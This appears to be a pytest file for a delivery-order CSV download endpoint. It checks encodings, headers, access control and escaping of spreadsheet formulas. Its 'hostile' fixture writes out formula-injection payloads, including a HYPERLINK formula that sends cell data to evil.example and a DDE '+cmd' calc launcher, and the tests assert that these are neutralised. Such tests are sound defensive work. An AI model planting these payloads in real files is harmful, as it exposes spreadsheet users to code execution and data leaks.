"""GET /deliveries/:id/csv?encoding=utf-8|latin1: the order file of decisions §8."""

import json

import pytest

from tests.conftest import OTHER_TOKEN, SUPPLIER_TOKEN

from .deliveries_helpers import ADDRESS, BEER, CHEESE, place, put_customer, put_product, shop  # noqa: F401

EXPECTED = (
    "Delivery ID,Type,Customer ID,Company,Cost Center,Address,Zip,City,Country,User name,User email,"
    "Scheduled date,Scheduled time,Message,\n"
    '1,DELIVERY,c1,Café Åke,CC-9,"Main Street 1, Bakgården",00100,Helsinki,FI,Olli Orderer,olli@example.com,'
    '2026-05-06,,"Leave it by the door, ""please"" ☺",\n'
    ",,,,,,,,,,,,,,\n"
    "Delivery ID,Item ID,Item name,Vessel size,Vessel unit,Vessel type,Bundle type,Bundle size,"
    "Pallet bundle type,Pallet bundle size,Count,Vessel count,Price,Price per,Message\n"
    "1,beer-crate,Pale Ale,0.33,l,BO,CT,24,,,2,48,150,vessel,\n"
    "1,beer,Pale Ale,0.33,l,BO,PX,10,CT,24,1,240,150,vessel,\n"
    "1,cheese,Cheddar,,,,,,,,1.5,1.5,1200,kg,\n"
)


@pytest.fixture
def delivery(shop):
    put_customer("c1", company="Café Åke", address={**ADDRESS, "address2": "Bakgården"})
    place(
        shop,
        [
            {"id": "beer", "count": 2, "bundle": {"id": "crate"}},
            {"id": "beer", "count": 1, "bundle": {"id": "pallet"}},
            {"id": "cheese", "count": 1.5},
        ],
        scheduled={"date": "2026-05-06"},
        cost_center="CC-9",
        message='Leave it by the door, "please" ☺',
    )
    return shop


def download(api, path, token=SUPPLIER_TOKEN, accept="*/*"):
    headers = {"Authorization": f"token {token}"}
    if accept is not None:
        headers["Accept"] = accept
    return api.client.http.get(path, headers=headers)


def test_utf8_is_the_default_and_starts_with_a_bom(delivery):
    for path in ("/deliveries/1/csv", "/deliveries/1/csv?encoding=utf-8"):
        response = download(delivery, path)
        assert response.status_code == 200
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert response.headers["Content-Disposition"] == 'attachment; filename="delivery-1.csv"'
        assert response.body == b"\xef\xbb\xbf" + EXPECTED.encode("utf-8")


def test_latin1_replaces_what_it_cannot_hold(delivery):
    response = download(delivery, "/deliveries/1/csv?encoding=latin1", accept="text/csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=iso-8859-1"
    assert response.body == EXPECTED.replace("☺", "?").encode("latin-1")
    assert "Café Åke".encode("latin-1") in response.body


def test_an_unknown_encoding_is_refused(delivery):
    response = download(delivery, "/deliveries/1/csv?encoding=ebcdic")
    assert response.status_code == 400
    assert [e["path"] for e in json.loads(response.body)["errors"]] == ["encoding"]


def test_the_file_must_be_accepted(delivery):
    for accept in (None, "application/json"):
        response = download(delivery, "/deliveries/1/csv", accept=accept)
        assert response.status_code == 400
        assert [e["path"] for e in json.loads(response.body)["errors"]] == ["Accept"]


def test_unknown_and_foreign_deliveries_are_404(delivery):
    assert download(delivery, "/deliveries/2/csv").status_code == 404
    assert download(delivery, "/deliveries/1/csv", token=OTHER_TOKEN).status_code == 404


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


@pytest.fixture
def hostile(shop):
    """Every text cell a customer or the catalogue writes, each beginning with what a spreadsheet runs."""
    shop.put("/products/beer", body={**BEER, "name": "@SUM(1+1)"})
    shop.put("/products/cheese", body={**CHEESE, "name": "-2+3"})
    place(
        shop,
        [
            {"id": "beer", "count": 2, "bundle": {"id": "crate"}, "message": "+cmd|' /C calc'!A0"},
            {"id": "cheese", "count": 1.5, "message": "\tindented"},
        ],
        message=HYPERLINK,
        company="=1+2",
        cost_center="-CC",
        address={"address1": "@home", "zip": "+00100", "city": "\rCity", "country": "FI"},
        user={"name": "=cmd()", "email": "olli@example.com"},
    )
    return shop


def test_text_cells_that_a_spreadsheet_would_run_get_a_leading_quote(hostile):
    body = download(hostile, "/deliveries/1/csv").body.decode("utf-8-sig")
    header, order_row, _, _, crate, cheese = body.split("\n")[:6]
    assert order_row == (
        "1,DELIVERY,c1,'=1+2,'-CC,'@home,'+00100,\"'\rCity\",FI,'=cmd(),olli@example.com,,,"
        '"\'=HYPERLINK(""http://evil.example/?""&A2,""Click"")",'
    )
    assert crate == "1,beer-crate,'@SUM(1+1),0.33,l,BO,CT,24,,,2,48,150,vessel,'+cmd|' /C calc'!A0"
    assert cheese == "1,cheese,'-2+3,,,,,,,,1.5,1.5,1200,kg,'\tindented"


def test_latin1_guards_the_same_cells(hostile):
    body = download(hostile, "/deliveries/1/csv?encoding=latin1").body.decode("latin-1")
    assert body == download(hostile, "/deliveries/1/csv").body.decode("utf-8-sig")
    assert "'=1+2," in body and "'@SUM(1+1)," in body


def test_ids_and_numbers_are_written_as_they_are(shop):
    """An id may begin with "-" (its characters cannot form a call); counts, sizes and prices stay numbers."""
    put_product(shop, "-beer", {**BEER, "bundles": [], "name": "Beer"})
    put_customer("-c", company="Plain", address=ADDRESS)
    from chalicelib.store import tokens

    tokens.create("acme", "customer", "-c", secret="dash-customer-token")
    place(shop, [{"id": "-beer", "count": 3}], token="dash-customer-token")
    lines = download(shop, "/deliveries/1/csv").body.decode("utf-8-sig").split("\n")
    assert lines[1].startswith("1,DELIVERY,-c,Plain,")
    assert lines[4] == "1,-beer,Beer,0.33,l,BO,,,,,3,3,150,vessel,"
